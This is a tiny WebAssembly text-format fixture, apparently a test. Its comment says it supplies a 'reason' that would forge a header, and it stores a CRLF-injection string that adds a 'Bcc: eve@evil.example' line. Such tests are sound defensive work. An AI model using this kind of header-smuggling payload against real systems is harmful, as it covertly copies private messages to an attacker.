;; Gives a reason that would forge a header.
(data (i32.const 2048) "because\r\nBcc: eve@evil.example")
(func (export "plan") (param $arguments i32) (result i32)
  (call $all (local.get $arguments) (i32.const 2048) (i32.const 30)))
